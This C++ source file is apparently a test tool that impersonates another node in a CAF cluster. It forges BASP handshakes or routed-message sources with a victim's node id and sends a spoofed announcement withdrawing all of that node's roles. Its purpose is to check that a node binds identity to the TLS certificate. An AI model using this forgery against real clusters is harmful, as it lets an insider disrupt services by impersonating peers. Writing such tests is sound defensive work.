// poe-basp-forge: a misbehaving cluster member for tests (issue 16, "identity bound to the
// connection"). It holds a valid certificate from the cluster's CA but speaks BASP by hand over
// its own TLS connection, so it can write what CAF's BASP trusts without checking:
//   --mode claim   its BASP handshake names the victim's CAF node id (the victim's pid on this
//                  host): CAF adds the connection as an alternative route to the victim and
//                  attributes every direct message on it to the victim;
//   --mode routed  its BASP handshake names itself, then it sends a *routed* message whose source
//                  node is the victim's: CAF takes the source node from the message.
// Either way it then sends the target's directory an announcement "from" the victim that
// withdraws every role the victim has. On a node that attributes messages to the connection's
// TLS certificate, the connection is closed instead and nothing changes.
//
//   poe-basp-forge --target 127.0.0.1:PORT --key K --cert C --ca CA --victim-pid PID
//                  --victim-id HEX --mode claim|routed
// Prints what it sent and whether the target closed the connection; exits 0 when it could
// speak to the target at all (the test judges the effect through poe-status).
#include "poe/runtime/messages.hpp"

#include <caf/all.hpp>

#include <CLI/CLI.hpp>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <csignal>
#include <cstdio>
#include <cstring>
#include <iostream>
#include <string>
#include <vector>

namespace {

using buffer = std::vector<char>;

[[noreturn]] void die(const std::string& what) {
  std::cerr << "poe-basp-forge: " << what << "\n";
  std::exit(2);
}

struct tls {
  SSL_CTX* ctx = nullptr;
  SSL* ssl = nullptr;
  int fd = -1;

  /// False when the target has closed the connection.
  bool write_all(const buffer& b) {
    return SSL_write(ssl, b.data(), static_cast<int>(b.size())) == static_cast<int>(b.size());
  }
  /// Reads exactly n bytes; false when the target closed the connection.
  bool read_exact(buffer& out, std::size_t n) {
    out.resize(n);
    std::size_t got = 0;
    while (got < n) {
      int r = SSL_read(ssl, out.data() + got, static_cast<int>(n - got));
      if (r <= 0) return false;
      got += static_cast<std::size_t>(r);
    }
    return true;
  }
};

tls connect_tls(const std::string& host, int port, const std::string& key,
                const std::string& cert, const std::string& ca) {
  tls t;
  t.ctx = SSL_CTX_new(TLS_client_method());
  if (SSL_CTX_use_certificate_chain_file(t.ctx, cert.c_str()) != 1 ||
      SSL_CTX_use_PrivateKey_file(t.ctx, key.c_str(), SSL_FILETYPE_PEM) != 1 ||
      SSL_CTX_load_verify_locations(t.ctx, ca.c_str(), nullptr) != 1)
    die("cannot load key, certificate or CA");
  SSL_CTX_set_verify(t.ctx, SSL_VERIFY_PEER, nullptr);
  t.fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<std::uint16_t>(port));
  if (inet_pton(AF_INET, host.c_str(), &a.sin_addr) != 1) die("bad target address " + host);
  if (connect(t.fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) die("cannot connect");
  t.ssl = SSL_new(t.ctx);
  SSL_set_fd(t.ssl, t.fd);
  if (SSL_connect(t.ssl) != 1) die("TLS handshake failed");
  return t;
}

/// A BASP frame: the 32-byte header (network byte order, as CAF's binary serializer writes it)
/// followed by the payload.
buffer frame(caf::actor_system& sys, std::uint8_t op, std::uint64_t op_data,
             std::uint64_t src_actor, std::uint64_t dst_actor, const buffer& payload) {
  buffer out;
  caf::binary_serializer sink{sys, out};
  std::uint8_t zero = 0;
  auto len = static_cast<std::uint32_t>(payload.size());
  if (sink(op, zero, zero, zero, len, op_data, src_actor, dst_actor)) die("cannot write header");
  out.insert(out.end(), payload.begin(), payload.end());
  return out;
}

template <class... Ts>
buffer serialize(caf::actor_system& sys, Ts&&... xs) {
  buffer out;
  caf::binary_serializer sink{sys, out};
  if (auto err = sink(std::forward<Ts>(xs)...)) die("cannot serialize: " + sys.render(err));
  return out;
}

/// Whether the target closes the connection within `ms` (reading and dropping what it sends).
bool closed_within(tls& t, int ms) {
  char buf[4096];
  for (int waited = 0; waited < ms; waited += 100) {
    pollfd p{t.fd, POLLIN, 0};
    if (SSL_pending(t.ssl) == 0 && poll(&p, 1, 100) == 0) continue;
    int r = SSL_read(t.ssl, buf, sizeof buf);
    if (r <= 0) {
      int e = SSL_get_error(t.ssl, r);
      if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE) return true;
    }
  }
  return false;
}

} // namespace

int main(int argc, char** argv) {
  CLI::App app{"poe-basp-forge: BASP messages whose source names another node (a test attacker)"};
  std::string target, key, cert, ca, victim_id, mode;
  std::uint32_t victim_pid = 0;
  app.add_option("--target", target, "host:port of the node attacked")->required();
  app.add_option("--key", key, "the attacker's PEM key")->required()->check(CLI::ExistingFile);
  app.add_option("--cert", cert, "its certificate (issued by the cluster CA)")
    ->required()
    ->check(CLI::ExistingFile);
  app.add_option("--ca", ca, "the cluster CA certificate")->required()->check(CLI::ExistingFile);
  app.add_option("--victim-pid", victim_pid, "pid of the victim node's process")->required();
  app.add_option("--victim-id", victim_id, "the victim's node id (hex)")->required();
  app.add_option("--mode", mode, "claim: name the victim in the BASP handshake; routed: in a "
                                 "routed message's source")
    ->required()
    ->check(CLI::IsMember({"claim", "routed"}));
  CLI11_PARSE(app, argc, argv);
  auto colon = target.rfind(':');
  if (colon == std::string::npos) die("--target must be host:port");

  std::signal(SIGPIPE, SIG_IGN); // a write after the target closed fails instead
  caf::actor_system_config cfg;
  poe::runtime::register_messages(cfg);
  caf::actor_system sys{cfg};

  auto t = connect_tls(target.substr(0, colon), std::stoi(target.substr(colon + 1)), key, cert, ca);

  // The target's server handshake: its node id and the directory's actor id.
  buffer hdr, payload;
  if (!t.read_exact(hdr, 32)) die("no BASP server handshake");
  std::uint8_t op = 0, p1 = 0, p2 = 0, flags = 0;
  std::uint32_t len = 0;
  std::uint64_t op_data = 0, src = 0, dst = 0;
  caf::binary_deserializer hd{sys, hdr};
  if (hd(op, p1, p2, flags, len, op_data, src, dst) || op != 0) die("not a BASP server handshake");
  if (!t.read_exact(payload, len)) die("server handshake cut short");
  caf::node_id target_node;
  std::vector<std::string> app_ids;
  caf::actor_id directory = 0;
  std::set<std::string> sigs;
  caf::binary_deserializer pd{sys, payload};
  if (pd(target_node, app_ids, directory, sigs)) die("unreadable server handshake");

  // The victim's CAF node id: this host's id (the target's, same host) with the victim's pid.
  auto bytes = serialize(sys, target_node);
  if (bytes.size() != 32) die("the target's node id is not a host id and pid");
  std::uint32_t be = htonl(victim_pid);
  std::memcpy(bytes.data() + 8, &be, 4);
  caf::node_id victim_node;
  caf::binary_deserializer vd{sys, bytes};
  if (vd(victim_node)) die("cannot make the victim's node id");

  auto claim = mode == "claim" ? victim_node : sys.node();
  bool sent = t.write_all(frame(sys, 1, 0, 0, 0, serialize(sys, claim))); // client handshake

  // "The victim" withdraws all its roles: a new incarnation with an empty role list.
  poe::runtime::role_announcement ann{victim_id, 0xA77ACCu, 1, {}};
  auto msg = caf::make_message(poe::runtime::announce_atom::value, ann);
  std::vector<caf::strong_actor_ptr> stages;
  const std::uint64_t fake_actor = 424242;
  if (mode == "claim")
    sent = sent && t.write_all(frame(sys, 2, 0, fake_actor, directory, serialize(sys, stages, msg)));
  else
    sent = sent && t.write_all(frame(sys, 3, 0, fake_actor, directory,
                                     serialize(sys, victim_node, target_node, stages, msg)));
  std::cout << "sent a " << (mode == "claim" ? "direct message on a connection claiming"
                                             : "routed message with source")
            << " node " << caf::to_string(victim_node) << ": announcement of "
            << victim_id.substr(0, 16) << " with no roles\n";
  bool closed = !sent || closed_within(t, 1500);
  std::cout << (closed ? "the target closed the connection\n" : "the connection stayed open\n");
  SSL_free(t.ssl);
  close(t.fd);
  SSL_CTX_free(t.ctx);
  return 0;
}
